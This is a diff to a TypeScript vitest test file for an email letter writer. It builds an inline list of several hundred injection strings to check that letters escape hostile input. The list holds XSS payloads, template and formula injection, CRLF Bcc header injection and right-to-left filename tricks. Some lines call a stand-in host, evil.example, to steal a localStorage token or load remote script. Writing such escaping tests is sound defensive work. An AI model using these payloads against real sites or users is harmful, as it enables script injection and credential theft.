@@ -3,8 +3,85 @@ import { describe, expect, it } from "vitest"
 import type { LetterFacts, LetterName } from "#mail/letter-facts.ts"
 import { writeLetter } from "#mail/mail.ts"
 import { LANGUAGES } from "#shared/language.ts"
-import { PROVIDER } from "#test/support/letters.ts"
-import { ATTACKS } from "#test/support/markup-attacks.ts"
+import { PROVIDER } from "#test/support/jobs.ts"
+
+/** More than 500 texts that imitate markup: OWASP's filter evasion sheet, and texts that break headers and templates. */
+const SCRIPTS = ["alert(1)", "fetch('//evil.example/'+localStorage.token)", "import('//evil.example/x.js')"]
+const TAGS = (script: string) => [
+  `<script>${script}</script>`,
+  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
+  `<script\x20type="text/javascript">${script};</script>`,
+  `<img src=x onerror=${script}>`,
+  `<img src="x" onerror="${script}"/>`,
+  `<IMG SRC=JaVaScRiPt:${script}>`,
+  `<IMG """><SCRIPT>${script}</SCRIPT>">`,
+  `<svg/onload=${script}>`,
+  `<svg><script>${script}</script></svg>`,
+  `<math><mtext></math><img src=x onerror=${script}>`,
+  `<body onload=${script}>`,
+  `<iframe src="javascript:${script}">`,
+  `<a href="javascript:${script}">x</a>`,
+  `<a href=" &#14; javascript:${script}">x</a>`,
+  `<a href="jav&#x09;ascript:${script}">x</a>`,
+  `<div style="background:url(javascript:${script})">`,
+  `<style>@import'//evil.example/x.css';</style>`,
+  `<link rel=stylesheet href=//evil.example/x.css>`,
+  `<meta http-equiv="refresh" content="0;url=javascript:${script}">`,
+  `<base href="javascript:${script}//">`,
+  `<object data="data:text/html,<script>${script}</script>">`,
+  `<embed src="//evil.example/x.swf">`,
+  `<form action="//evil.example"><input name=password></form>`,
+  `<details open ontoggle=${script}>`,
+  `<video><source onerror="${script}">`,
+  `<input autofocus onfocus=${script}>`,
+  `<template><script>${script}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
+  `<!--<img src="--><img src=x onerror=${script}>-->`,
+  `<![CDATA[<script>${script}</script>]]>`,
+  `<xss id=x tabindex=1 onactivate=${script}></xss>`,
+  `<p/onclick=${script}>x`,
+]
+const BREAKS = [
+  "",
+  "'",
+  '"',
+  '">',
+  "'>",
+  "</title>",
+  "</textarea>",
+  "</a>",
+  "-->",
+  "</td></tr></table>",
+  "&quot;>",
+  "\u0000",
+]
+
+const OTHERS = [
+  "<<script>alert(1)//<</script>",
+  "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
+  "&lt;script&gt;alert(1)&lt;/script&gt;",
+  "&#60;script&#62;alert(1)&#60;/script&#62;",
+  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+  "＜script＞alert(1)＜/script＞",
+  "javascript:alert(1)",
+  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+  "$" + "{alert(1)}",
+  "{{constructor.constructor('alert(1)')()}}",
+  "<%= 7 * 7 %>",
+  "$&$`$'$$",
+  "%0d%0aBcc: everybody@brand.test",
+  "\r\nBcc: everybody@brand.test\r\n\r\n<script>alert(1)</script>",
+  "\u2028Subject: another",
+  "\u202Etxt.exe",
+  "=1+1",
+  "x".repeat(2_000),
+  "\ud800",
+  "",
+]
+
+const ATTACKS: readonly string[] = [
+  ...new Set([...SCRIPTS.flatMap(TAGS).flatMap((tag) => BREAKS.map((start) => start + tag)), ...OTHERS]),
+]
 
 const AT = Date.UTC(2026, 10, 21, 12, 5)
 const URL = "https://touchmark.test/dashboard/profile"
